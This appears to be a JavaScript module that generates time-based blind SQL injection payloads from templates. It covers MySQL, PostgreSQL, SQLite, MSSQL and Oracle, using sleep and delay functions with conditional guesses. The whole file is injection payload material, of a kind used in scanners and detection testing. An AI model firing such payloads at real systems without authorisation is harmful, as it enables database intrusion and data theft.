import { WHERE_PLACES } from '../place.js';
import { sqlGenerator } from '../sql-generator.js';

/** Waiting, with or without a condition, as an operand of the statement's own condition. */
export const timeBlind = sqlGenerator({
  name: 'time-blind',
  places: WHERE_PLACES,
  rules: {
    and: ['AND', 'and', 'OR', 'or'],
    glue: ['||'],
    guess: ['{length}>{digit}', '{ascii}>{code}', '1=1', '{scan:a}={scan:a}'],
  },
  byDialect: {
    mysql: {
      start: [
        '{open} {and} {wait}{close}',
        '{open} {and} IF({guess},{wait},{digit}){close}',
        '{base}{quote}{glue}{wait}{rejoin}',
        '{open} {and} (SELECT {scan} FROM (SELECT(SLEEP({sec}-(IF({guess},0,{sec})))))x){close}',
        '{open} {and} CASE WHEN {guess} THEN {wait} ELSE 0 END{close}',
        '{open} RLIKE {wait}{close}',
        '{open} {and} ELT({guess},{wait}){close}',
      ],
      wait: ['{sleep}', 'sleep({sec})', 'SLEEP({sec})', 'SLEEP({sec})=0'],
      glue: ['+', '-', '*', '||', '^', '|', ' xor '],
    },
    postgres: {
      start: [
        '{open} {and} {scan:a}=(SELECT {scan:a} FROM PG_SLEEP({sec})){close}',
        '{open} {and} (SELECT {digit} FROM PG_SLEEP({sec}))={digit}{close}',
        '{open} {and} (SELECT CASE WHEN ({guess}) THEN (SELECT {digit} FROM PG_SLEEP({sec})) ELSE {digit} END)=1{close}',
        '{open} {and} PG_SLEEP({sec}) IS NULL{close}',
        '{open} {and} EXISTS(SELECT PG_SLEEP({sec})){close}',
        '{base}{quote}||PG_SLEEP({sec})::text{rejoin}',
        '{open} {and} pg_sleep({sec})::text={quote}{quote} {comment}',
      ],
    },
    sqlite: {
      start: [
        '{open} {and} {scan}={sleep}{close}',
        '{open} {and} (CASE WHEN {guess} THEN {sleep} ELSE {digit} END){close}',
        '{base}{quote}||{sleep}{rejoin}',
        '{open} {and} length({sleep})>0{close}',
        '{open} {and} IIF({guess},{sleep},0) {comment}',
      ],
    },
    mssql: {
      start: [
        "{open} WAITFOR DELAY '0:0:{sec}'{comment}",
        "{open};WAITFOR DELAY '0:0:{sec}'{comment}",
        "{open} IF ({guess}) WAITFOR DELAY '00:00:0{sec}'{comment}",
        '{open} {and} {scan}={sleep}{close}',
        "{open};IF({guess}) WAITFOR TIME '{digit}:00:00'{comment}",
      ],
    },
    oracle: {
      start: [
        '{open} {and} {scan}={sleep}{close}',
        '{base}{quote}||{sleep}{rejoin}',
        '{open} {and} (SELECT CASE WHEN ({guess}) THEN {sleep} ELSE {digit} END FROM DUAL)={digit}{close}',
        '{open} {and} DBMS_LOCK.SLEEP({sec}) IS NULL{close}',
      ],
    },
  },
});
